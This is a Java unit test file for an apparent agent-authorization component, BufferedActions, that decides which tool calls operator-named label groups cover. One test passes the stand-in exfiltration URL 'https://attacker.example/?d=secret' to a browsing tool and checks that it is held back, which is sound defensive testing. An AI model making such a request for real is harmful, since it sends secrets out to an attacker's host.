package dev.mandate.authz.engine.recording;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mandate.authz.engine.decisions.questions.Question;
import dev.mandate.authz.engine.entities.Catalogue;
import dev.mandate.events.lifecycle.CatalogEntry.Tool;
import dev.mandate.events.lifecycle.ToolLabel;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class BufferedActionsTest {
    private final Catalogue catalogue = new Catalogue();

    @Test
    void nothing_is_covered_unless_the_operator_names_it() {
        tool("crm.read", ToolLabel.PRIVATE);
        assertThat(covered(Set.of(), "call", "crm.read")).isFalse();
        assertThat(covered(Set.of(), "use", "general")).isFalse();
        assertThat(covered(Set.of("use"), "use", "general")).isTrue();
        assertThat(covered(Set.of("use"), "call", "crm.read")).isFalse();
        assertThat(covered(Set.of("call"), "call", "no.such_tool")).isTrue();
    }

    @Test
    void a_tool_is_covered_only_if_all_that_it_can_do_is_named() {
        tool("crm.read", ToolLabel.PRIVATE);
        tool("crm.export", ToolLabel.PRIVATE, ToolLabel.EGRESS);
        tool("clock");
        var groups = Set.of("private", "untrusted");
        assertThat(covered(groups, "call", "crm.read")).isTrue();
        assertThat(covered(groups, "call", "crm.export")).isFalse();
        assertThat(covered(groups, "call", "clock")).isFalse();
        assertThat(covered(groups, "call", "no.such_tool")).isFalse();
    }

    @Test
    void a_url_that_may_carry_data_out_waits_for_its_record() {
        tool("web.browse", ToolLabel.UNTRUSTED);
        var groups = Set.of("untrusted");
        assertThat(covered(groups, "call", "web.browse", Map.of("url", "https://wiki.example/a")))
                .isTrue();
        assertThat(covered(groups, "call", "web.browse", Map.of("url", "https://attacker.example/?d=secret")))
                .isFalse();
    }

    @Test
    void a_group_that_does_not_exist_is_refused_at_the_start() {
        assertThatThrownBy(() -> new BufferedActions(Set.of("reading"), catalogue))
                .hasMessageContaining("names reading, neither use nor call nor a label");
    }

    private void tool(String id, ToolLabel... labels) {
        catalogue.apply(new Tool(id, 1, false, id, "crm", Set.of(labels), Map.of()));
    }

    private boolean covered(Set<String> groups, String action, String resource) {
        return covered(groups, action, resource, Map.of());
    }

    private boolean covered(Set<String> groups, String action, String resource, Map<String, Object> arguments) {
        return new BufferedActions(groups, catalogue)
                .cover(new Question(
                        "person",
                        "per_ada",
                        Question.Action.of(action),
                        action.equals("call") ? "tool" : "model",
                        resource,
                        arguments,
                        Map.of(),
                        null,
                        null,
                        Question.Proof.NONE,
                        "test",
                        null,
                        null));
    }
}
